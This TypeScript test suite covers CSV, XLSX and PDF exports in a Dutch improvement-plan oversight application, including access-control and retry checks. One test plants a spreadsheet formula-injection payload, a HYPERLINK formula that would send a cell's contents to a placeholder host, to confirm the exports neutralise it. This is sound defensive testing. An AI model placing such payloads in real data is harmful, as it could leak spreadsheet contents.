import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { DEMO_PASSWORD, demoAccounts, loadDemoData } from '@opvolging/demo';
import { Database } from '@opvolging/database';
import { ExportBusy, ExportGenerator } from '@opvolging/exports';
import { pdfText } from '../support/pdf-text';
import { codes, fieldPaths, TestApp } from '../support/test-app';

/**
 * Exports made by the worker from the demo data, downloaded over HTTP and read back with a CSV
 * parser, exceljs and a PDF text extractor, and compared with what GraphQL shows the same user.
 */
describe('exports', () => {
  let t: TestApp;
  const token = (email: string) => t.token(email);
  const INSPECTOR = 'inspecteur.igj@opvolging.demo';
  const INSPECTOR_EN = 'inspecteur.jenv@opvolging.demo';
  const REVIEWER = 'toezicht.heerlen@opvolging.demo';
  const MEMBER = 'buurtteam.heerlen@opvolging.demo';

  /** Independent of the code under test: how a Dutch reader sees each plan status. */
  const PLAN_STATUS_NL: Record<string, string> = {
    DRAFT: 'Nog niet ingediend',
    SUBMITTED: 'Ingediend',
    REVISION_REQUESTED: 'Herziening gevraagd',
    ACCEPTED: 'Geaccepteerd',
    CLOSED: 'Afgesloten',
  };
  const GRADES = ['FULLY', 'MOSTLY', 'PARTLY', 'NOT_IMPLEMENTED', 'NO_LONGER_RELEVANT'];
  const PLAN_HEADERS_NL = [
    'Onderzoek',
    'Status onderzoek',
    'Publicatiedatum',
    'Einde verbetertraject',
    'Organisatie',
    'Soort organisatie',
    'Status verbeterplan',
    'Uiterste datum plan',
    'Oorspronkelijke datum plan',
    'Plan te laat',
    'Maatregelen',
    'Maatregelen afgerond',
    'Maatregelen geannuleerd',
    'Maatregelen te laat',
    'Status interne audit',
    'Uiterste datum audit',
    'Audit te laat',
    'Volledig geïmplementeerd',
    'Grotendeels geïmplementeerd',
    'Gedeeltelijk geïmplementeerd',
    'Niet geïmplementeerd',
    'Niet meer relevant',
    'Handhavingsmaatregelen',
    'Huidige handhavingsstap',
  ];
  const PLAN_FIELDS =
    `organisation { name } enforcementCount enforcementType planStatus planDueDate planOriginalDueDate planOverdue measuresTotal ` +
    `measuresCompleted measuresCancelled measuresLate auditStatus auditDueDate auditOverdue grades { grade count }`;

  beforeAll(async () => {
    t = await TestApp.start();
    await t.travel('2026-11-22T09:00:00');
    await loadDemoData(t.app);
    t.clock.set('2026-11-22T09:00:00');
    for (const account of demoAccounts) await t.signIn(account.email, DEMO_PASSWORD);
    await t.startWorker();
  });
  afterAll(async () => t?.stop());

  const EXPORT = `id view format status filename byteSize rowCount createdAt finishedAt error downloadUrl`;

  async function requestExport(email: string, input: Record<string, unknown>) {
    return (await t.ok(token(email), `mutation($input: RequestExportInput!) { requestExport(input: $input) { ${EXPORT} } }`, { input }))
      .requestExport;
  }

  /** Polls the export query until the worker is done with it. */
  async function waitFor(email: string, id: string, timeoutMs = 30_000) {
    const until = Date.now() + timeoutMs;
    for (;;) {
      const { export: e } = await t.ok(token(email), `query($id: ID!) { export(id: $id) { ${EXPORT} } }`, { id });
      if (e.status === 'DONE' || e.status === 'FAILED') return e;
      if (Date.now() > until) throw new Error(`export ${id} still ${e.status} after ${timeoutMs} ms`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }

  function download(url: string, bearer: string | null) {
    const req = request(t.app.getHttpServer())
      .get(url)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      });
    if (bearer) req.set('authorization', `Bearer ${bearer}`);
    return req;
  }

  /** Requested, made by the worker, downloaded: the file and its export. */
  async function exportFile(email: string, input: Record<string, unknown>) {
    const requested = await requestExport(email, input);
    expect(requested).toMatchObject({ status: 'QUEUED', downloadUrl: null, filename: null });
    const done = await waitFor(email, requested.id);
    if (done.status !== 'DONE') throw new Error(`export failed: ${done.error}`);
    expect(done.downloadUrl).toBe(`/exports/${done.id}/download`);
    const res = await download(done.downloadUrl, token(email));
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="${done.filename}"; filename*=UTF-8''${encodeURIComponent(done.filename)}`,
    );
    expect(res.body.length).toBe(done.byteSize);
    return { export: done, body: res.body as Buffer, contentType: res.headers['content-type'] as string };
  }

  const csvRows = (body: Buffer): string[][] => parse(body, { delimiter: ';', bom: true, relax_column_count: false });
  const yesNo = (b: boolean) => (b ? 'ja' : 'nee');
  const gradeCounts = (p: any) => GRADES.map((g) => p.grades.find((x: any) => x.grade === g)?.count ?? 0);

  async function municipalityPlans(email: string) {
    const data = await t.ok(
      token(email),
      `{ municipalityOverview { investigations { title publicationDate trajectoryEndDate plans { ${PLAN_FIELDS} } } } }`,
    );
    return data.municipalityOverview.investigations.flatMap((i: any) => i.plans.map((p: any) => ({ ...p, investigation: i })));
  }

  it('exports the municipality overview as a Dutch CSV that matches the overview the reviewer sees', async () => {
    const { export: e, body, contentType } = await exportFile(REVIEWER, { view: 'MUNICIPALITY_OVERVIEW', format: 'CSV' });
    expect(contentType).toBe('text/csv; charset=utf-8');
    expect(e.filename).toBe('gemeenteoverzicht-gemeente-heerlen-2026-11-22.csv');
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 byte-order mark, for Excel
    expect(body.toString('utf8')).toContain('\r\n');

    const [header, ...rows] = csvRows(body);
    expect(header).toEqual(PLAN_HEADERS_NL);
    const plans = await municipalityPlans(REVIEWER);
    expect(plans.length).toBe(4);
    expect(e.rowCount).toBe(plans.length);
    expect(rows).toEqual(
      plans.map((p: any) => [
        'Casus Heerlen 2015',
        'In opvolging',
        p.investigation.publicationDate,
        p.investigation.trajectoryEndDate ?? '',
        p.organisation.name,
        expect.any(String),
        PLAN_STATUS_NL[p.planStatus],
        p.planDueDate,
        p.planOriginalDueDate,
        yesNo(p.planOverdue),
        String(p.measuresTotal),
        String(p.measuresCompleted),
        String(p.measuresCancelled),
        String(p.measuresLate),
        p.auditStatus ? expect.any(String) : '',
        p.auditDueDate ?? '',
        yesNo(p.auditOverdue),
        ...gradeCounts(p).map(String),
        String(p.enforcementCount),
        p.enforcementType ? expect.any(String) : '',
      ]),
    );
    // The demo's Heerlen case: one plan sent back for revision, one submitted, two still drafts.
    expect(rows.map((r) => r[6]).sort()).toEqual(['Herziening gevraagd', 'Ingediend', 'Nog niet ingediend', 'Nog niet ingediend']);
  });

  it('exports the same overview as XLSX with real dates, numbers, a bold header and an autofilter', async () => {
    const { export: e, body, contentType } = await exportFile(REVIEWER, { view: 'MUNICIPALITY_OVERVIEW', format: 'XLSX' });
    expect(contentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(e.filename).toMatch(/\.xlsx$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as any);
    expect(workbook.worksheets).toHaveLength(1);
    const sheet = workbook.worksheets[0];
    expect(sheet.name).toBe('Gemeenteoverzicht');
    const header = sheet.getRow(1);
    expect((header.values as unknown[]).slice(1)).toEqual(PLAN_HEADERS_NL);
    expect(header.getCell(1).font?.bold).toBe(true);
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getColumn(1).width).toBeGreaterThan(10);

    const plans = await municipalityPlans(REVIEWER);
    expect(sheet.rowCount).toBe(plans.length + 1);
    plans.forEach((p: any, i: number) => {
      const row = sheet.getRow(i + 2);
      const cell = (n: number) => row.getCell(n).value;
      expect(cell(1)).toBe('Casus Heerlen 2015');
      expect(cell(3)).toEqual(new Date(`${p.investigation.publicationDate}T00:00:00Z`));
      expect(row.getCell(3).type).toBe(ExcelJS.ValueType.Date);
      expect(row.getCell(3).numFmt).toBe('dd-mm-yyyy');
      expect(cell(5)).toBe(p.organisation.name);
      expect(cell(7)).toBe(PLAN_STATUS_NL[p.planStatus]);
      expect(cell(8)).toEqual(new Date(`${p.planDueDate}T00:00:00Z`));
      expect(cell(10)).toBe(yesNo(p.planOverdue));
      expect([cell(11), cell(12), cell(13), cell(14)]).toEqual([p.measuresTotal, p.measuresCompleted, p.measuresCancelled, p.measuresLate]);
      expect(row.getCell(11).type).toBe(ExcelJS.ValueType.Number);
      expect([18, 19, 20, 21, 22].map(cell)).toEqual(gradeCounts(p));
    });
  });

  it("exports an inspector's filtered portfolio, and English headers for an English-speaking inspector", async () => {
    const { body } = await exportFile(INSPECTOR, { view: 'PORTFOLIO', format: 'CSV', portfolioFilter: { late: true } });
    const [header, ...rows] = csvRows(body);
    expect(header).toEqual(PLAN_HEADERS_NL);
    const portfolio = await t.ok(
      token(INSPECTOR),
      `{ inspectoratePortfolio(filter: { late: true }) { investigations { title plans { ${PLAN_FIELDS} } } } }`,
    );
    const expected = portfolio.inspectoratePortfolio.investigations.flatMap((i: any) =>
      i.plans.map((p: any) => [
        i.title,
        p.organisation.name,
        PLAN_STATUS_NL[p.planStatus],
        String(p.measuresTotal),
        String(p.measuresLate),
      ]),
    );
    expect(expected.length).toBeGreaterThan(0);
    expect(rows.map((r) => [r[0], r[4], r[6], r[10], r[13]])).toEqual(expected);
    expect(new Set(rows.map((r) => r[0]))).toEqual(new Set(['Casus Groningen 2015']));

    const english = await exportFile(INSPECTOR_EN, { view: 'PORTFOLIO', format: 'XLSX' });
    expect(english.export.filename).toBe('portfolio-2026-11-22.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(english.body as any);
    const sheet = workbook.worksheets[0];
    expect((sheet.getRow(1).values as unknown[]).slice(1, 8)).toEqual([
      'Investigation',
      'Investigation status',
      'Publication date',
      'End of trajectory',
      'Organisation',
      'Organisation kind',
      'Plan status',
    ]);
    // JenV takes part in the Heerlen case only: exactly the rows that inspector may see.
    const seen = await t.ok(token(INSPECTOR_EN), `{ inspectoratePortfolio { investigations { title plans { planStatus } } } }`);
    const titles = seen.inspectoratePortfolio.investigations.flatMap((i: any) => i.plans.map(() => i.title));
    expect(sheet.getColumn(1).values.slice(2)).toEqual(titles);
    expect(titles).not.toContain('Casus Groningen 2015');
  });

  it('makes a Dutch PDF progress report of an investigation, with plan statuses and no personal data', async () => {
    const investigations = await t.ok(
      token(REVIEWER),
      `{ investigations(first: 10) { nodes { id title plans { status organisation { name } } } } }`,
    );
    const heerlen = investigations.investigations.nodes.find((i: any) => i.title === 'Casus Heerlen 2015');
    const {
      export: e,
      body,
      contentType,
    } = await exportFile(REVIEWER, { view: 'INVESTIGATION_PROGRESS', format: 'PDF', investigationId: heerlen.id });
    expect(contentType).toBe('application/pdf');
    expect(body.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(e.filename).toBe('voortgangsrapportage-casus-heerlen-2015-2026-11-22.pdf');
    const text = await pdfText(body);
    expect(text).toContain('VOORTGANGSRAPPORTAGE');
    expect(text).toContain('Casus Heerlen 2015');
    expect(text).toContain('Gemeente: Gemeente Heerlen');
    expect(text).toContain('Stand van zaken op: 22 november 2026');
    expect(text).toContain('Gegenereerd op 22 november 2026 om 09:00');
    expect(text).toContain('Verbeterpunten en oordelen');
    const flat = text.replace(/\s+/g, ' ');
    for (const plan of heerlen.plans) {
      expect(flat).toContain(plan.organisation.name);
      expect(flat).toContain(`Status verbeterplan: ${PLAN_STATUS_NL[plan.status]}`);
    }
    expect(flat).toContain('Breng kwetsbare gezinnen met zorgmijdende ouders in kaart');
    // No names or e-mail addresses of people.
    for (const account of demoAccounts) {
      expect(flat).not.toContain(account.displayName);
      expect(flat).not.toContain(account.email);
    }
    expect(flat).not.toContain('@');
  });

  it('gives an inspector the progress report of an accepted case, with audits and measures', async () => {
    const investigations = await t.ok(
      token(INSPECTOR),
      `{ investigations(first: 10) { nodes { id title plans { status organisation { name } } } } }`,
    );
    const groningen = investigations.investigations.nodes.find((i: any) => i.title === 'Casus Groningen 2015');
    const { body } = await exportFile(INSPECTOR, { view: 'INVESTIGATION_PROGRESS', format: 'PDF', investigationId: groningen.id });
    const flat = (await pdfText(body)).replace(/\s+/g, ' ');
    expect(flat).toContain('Casus Groningen 2015');
    for (const plan of groningen.plans)
      expect(flat).toContain(`${plan.organisation.name} Status verbeterplan: ${PLAN_STATUS_NL[plan.status]}`);
    expect(flat).toContain('Interne audit:');
    expect(flat).toMatch(/Maatregelen: \d+ van \d+ afgerond, \d+ te laat/);
  });

  it('lets only the owner read and download an export', async () => {
    const mine = await exportFile(REVIEWER, { view: 'THEMES', format: 'CSV' });
    expect(csvRows(mine.body)[0].slice(0, 4)).toEqual(['Thema', 'Onderzoeken', 'Bevindingen', 'Verbeterpunten']);

    const other = await download(mine.export.downloadUrl, token(INSPECTOR));
    expect(other.status).toBe(404);
    expect(other.body.toString()).not.toContain('Thema');
    expect((await download(mine.export.downloadUrl, null)).status).toBe(401);
    expect((await download(mine.export.downloadUrl, 'not-a-token')).status).toBe(401);
    expect((await download('/exports/not-a-uuid/download', token(REVIEWER))).status).toBe(404);
    expect(codes(await t.gql(token(INSPECTOR), `query($id: ID!) { export(id: $id) { id } }`, { id: mine.export.id }))).toEqual([
      'NOT_FOUND',
    ]);

    // Row-level security, under the code's own checks: another user's transaction does not see the row at all.
    const inspector = (await t.ok(token(INSPECTOR), `{ me { id role organisation { id } } }`)).me;
    const seen = await t
      .get(Database)
      .transaction({ userId: inspector.id, role: inspector.role, organisationId: inspector.organisation.id }, ({ em }) =>
        em.query(`SELECT count(*)::int AS n FROM exports WHERE id = $1`, [mine.export.id]),
      );
    expect(seen).toEqual([{ n: 0 }]);

    const listed = await t.ok(token(REVIEWER), `{ myExports(first: 100) { id status } }`);
    expect(listed.myExports.map((x: any) => x.id)).toContain(mine.export.id);
    const others = await t.ok(token(INSPECTOR), `{ myExports(first: 100) { id } }`);
    expect(others.myExports.map((x: any) => x.id)).not.toContain(mine.export.id);
  });

  it('refuses what the user may not see, and view/format combinations that do not exist', async () => {
    const hattem = (await t.ok(token('toezicht.hattem@opvolging.demo'), `{ me { organisation { id } } }`)).me.organisation.id;
    const mutation = `mutation($input: RequestExportInput!) { requestExport(input: $input) { id } }`;
    expect(
      codes(await t.gql(token(REVIEWER), mutation, { input: { view: 'MUNICIPALITY_OVERVIEW', format: 'CSV', municipalityId: hattem } })),
    ).toEqual(['NOT_FOUND']);
    expect(codes(await t.gql(token(MEMBER), mutation, { input: { view: 'PORTFOLIO', format: 'XLSX' } }))).toEqual(['FORBIDDEN']);

    const inspectorNoMunicipality = await t.gql(token(INSPECTOR), mutation, { input: { view: 'MUNICIPALITY_OVERVIEW', format: 'CSV' } });
    expect(codes(inspectorNoMunicipality)).toEqual(['BAD_USER_INPUT']);
    expect(fieldPaths(inspectorNoMunicipality)).toEqual(['input.municipalityId']);

    const pdfOfList = await t.gql(token(INSPECTOR), mutation, { input: { view: 'MEASURES', format: 'PDF' } });
    expect(codes(pdfOfList)).toEqual(['BAD_USER_INPUT']);
    expect(fieldPaths(pdfOfList)).toEqual(['input.format']);
    const csvOfReport = await t.gql(token(INSPECTOR), mutation, { input: { view: 'INVESTIGATION_PROGRESS', format: 'CSV' } });
    expect(fieldPaths(csvOfReport)).toEqual(['input.format', 'input.investigationId']);
    const wrongFilter = await t.gql(token(INSPECTOR), mutation, {
      input: { view: 'DEADLINES', format: 'CSV', measureFilter: { overdue: true } },
    });
    expect(fieldPaths(wrongFilter)).toEqual(['input.measureFilter']);
    const badFilter = await t.gql(token(INSPECTOR), mutation, {
      input: { view: 'MEASURES', format: 'CSV', measureFilter: { planId: 'nope' } },
    });
    expect(codes(badFilter)).toEqual(['BAD_USER_INPUT']);
    expect(fieldPaths(badFilter)).toEqual(['input.measureFilter.planId']);

    // Another municipality's investigation is not there for this reviewer.
    const other = (await t.ok(token('toezicht.hattem@opvolging.demo'), `{ investigations(first: 10) { nodes { id } } }`)).investigations
      .nodes[0].id;
    expect(
      codes(await t.gql(token(REVIEWER), mutation, { input: { view: 'INVESTIGATION_PROGRESS', format: 'PDF', investigationId: other } })),
    ).toEqual(['NOT_FOUND']);
    expect(codes(await t.gql(token('beheer@opvolging.demo'), mutation, { input: { view: 'THEMES', format: 'CSV' } }))).toEqual([
      'FORBIDDEN',
    ]);
  });

  it('neutralises formulas in CSV cells and keeps them plain text in XLSX', async () => {
    const member = token(MEMBER);
    const me = await t.ok(member, `{ me { id } }`);
    const plans = await t.ok(member, `{ improvementPlans { nodes { id investigation { improvementPoints { id position } } } } }`);
    const plan = plans.improvementPlans.nodes[0];
    const formula = '=HYPERLINK("https://example.test/?leak="&A1;"klik")';
    await t.ok(member, `mutation($input: AddMeasureInput!) { addMeasure(input: $input) { id } }`, {
      input: {
        planId: plan.id,
        description: formula,
        successIndicator: '+31 procent minder meldingen',
        ownerId: me.me.id,
        dueDate: '2027-03-01',
        pointIds: [plan.investigation.improvementPoints[0].id],
      },
    });

    const csv = await exportFile(MEMBER, { view: 'MEASURES', format: 'CSV', measureFilter: { planId: plan.id } });
    const [header, ...rows] = csvRows(csv.body);
    expect(header.slice(0, 5)).toEqual(['Onderzoek', 'Organisatie', 'Maatregel', 'Succesindicator', 'Status']);
    const row = rows.find((r) => r[2].includes('HYPERLINK'))!;
    expect(row[2]).toBe(`'${formula}`);
    expect(row[3]).toBe("'+31 procent minder meldingen");
    expect(row[1]).toBe('Sociaal Buurtteam Heerlen-Noord');
    expect(row[4]).toBe('Gepland');
    // The ; inside the text is quoted, not a column break (RFC 4180).
    expect(csv.body.toString('utf8')).toContain(`"'=HYPERLINK(""https://example.test/?leak=""&A1;""klik"")"`);
    // The organisation's own draft measures are there for the organisation (and only its own plan).
    expect(new Set(rows.map((r) => r[1]))).toEqual(new Set(['Sociaal Buurtteam Heerlen-Noord']));

    const xlsx = await exportFile(MEMBER, { view: 'MEASURES', format: 'XLSX', measureFilter: { planId: plan.id } });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as any);
    const sheet = workbook.worksheets[0];
    const cells = sheet.getColumn(3).values.slice(2) as unknown[];
    const index = cells.findIndex((v) => String(v).includes('HYPERLINK'));
    const cell = sheet.getRow(index + 2).getCell(3);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(formula);

    // A reviewer does not see the draft measure of the organisation.
    const reviewerCsv = await exportFile(REVIEWER, { view: 'MEASURES', format: 'CSV' });
    expect(reviewerCsv.body.toString('utf8')).not.toContain('HYPERLINK');
  });

  it('exports deadlines and improvement points as filtered, matching the GraphQL lists', async () => {
    const { body } = await exportFile(INSPECTOR, { view: 'DEADLINES', format: 'CSV', deadlineFilter: { overdue: true } });
    const [, ...rows] = csvRows(body);
    const listed = await t.ok(
      token(INSPECTOR),
      `{ deadlines(first: 100, filter: { overdue: true }) { totalCount nodes { dueDate daysLeft overdue } } }`,
    );
    expect(rows.length).toBe(listed.deadlines.totalCount);
    expect(rows.map((r) => [r[4], r[6], Number(r[7])])).toEqual(
      listed.deadlines.nodes.map((d: any) => [d.dueDate, yesNo(d.overdue), d.daysLeft]),
    );

    const points = await exportFile(REVIEWER, { view: 'IMPROVEMENT_POINTS', format: 'XLSX', improvementPointFilter: { collective: true } });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(points.body as any);
    const sheet = workbook.worksheets[0];
    const gql = await t.ok(token(REVIEWER), `{ improvementPoints(first: 100, filter: { collective: true }) { nodes { position text } } }`);
    expect(sheet.rowCount - 1).toBe(gql.improvementPoints.nodes.length);
    expect(sheet.getColumn(3).values.slice(2)).toEqual(gql.improvementPoints.nodes.map((p: any) => p.text));
    expect(sheet.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.Number);
  });

  it('makes a file once when the job is delivered twice', async () => {
    const first = await exportFile(REVIEWER, { view: 'MUNICIPALITY_OVERVIEW', format: 'CSV' });
    const generator = t.worker!.get(ExportGenerator);
    expect(await generator.run(first.export.id)).toBe('skipped');
    const again = await waitFor(REVIEWER, first.export.id);
    expect(again.finishedAt).toBe(first.export.finishedAt);
    expect((await download(first.export.downloadUrl, token(REVIEWER))).body.equals(first.body)).toBe(true);

    // A claim held by a live worker is left alone (the job is retried later); one from a worker that died is taken over.
    const db = t.get(Database);
    const claim = (minutesAgo: number) =>
      db.transaction(null, ({ em }) =>
        em.query(
          `UPDATE exports SET status = 'RUNNING', file = NULL, started_at = $2::timestamptz - make_interval(mins => $3) WHERE id = $1`,
          [first.export.id, t.clock.now(), minutesAgo],
        ),
      );
    await claim(1);
    await expect(generator.run(first.export.id)).rejects.toThrow(ExportBusy);
    await claim(11);
    expect(await generator.run(first.export.id)).toBe('done');
    const retaken = await waitFor(REVIEWER, first.export.id);
    expect(retaken.status).toBe('DONE');
    expect((await download(first.export.downloadUrl, token(REVIEWER))).body.equals(first.body)).toBe(true);
  });

  it('queues again an export whose job Redis lost, and deletes finished exports after the retention period', async () => {
    const { Database } = await import('@opvolging/database');
    const { ExportsService } = await import('@opvolging/exports');
    const { RetentionService } = await import('@opvolging/notifications');
    const db = t.get(Database);
    const me = await t.ok(token(REVIEWER), `{ me { id } }`);
    // As if the job was lost: a waiting row that no job refers to.
    const [row] = await db.transaction(null, ({ em }) =>
      em.query(
        `INSERT INTO exports (user_id, view, format, params, status, created_at) VALUES ($1, 'MUNICIPALITY_OVERVIEW', 'CSV', '{}', ` +
          `'QUEUED', now() - interval '1 hour') RETURNING id`,
        [me.me.id],
      ),
    );
    expect(await t.worker!.get(ExportsService).requeueWaiting(60)).toBeGreaterThanOrEqual(1);
    expect((await waitFor(REVIEWER, row.id)).status).toBe('DONE');
    await t.travel('2027-06-01T09:00:00'); // created_at is database time (today); well past 30 days later
    const removed = await t.worker!.get(RetentionService).run();
    expect(removed.exports).toBeGreaterThanOrEqual(1);
    expect(codes(await t.gql(token(REVIEWER), `query($id: ID!) { export(id: $id) { id } }`, { id: row.id }))).toEqual(['NOT_FOUND']);
  });

  it('counts the exports the worker made, and their duration, on its /metrics', async () => {
    const metrics = (await request(t.worker!.getHttpServer()).get('/metrics').expect(200)).text;
    expect(metrics).toMatch(/^opvolging_exports_total\{outcome="done"\} [1-9]/m);
    expect(metrics).toMatch(/^opvolging_export_duration_seconds_count [1-9]/m);
  });
});
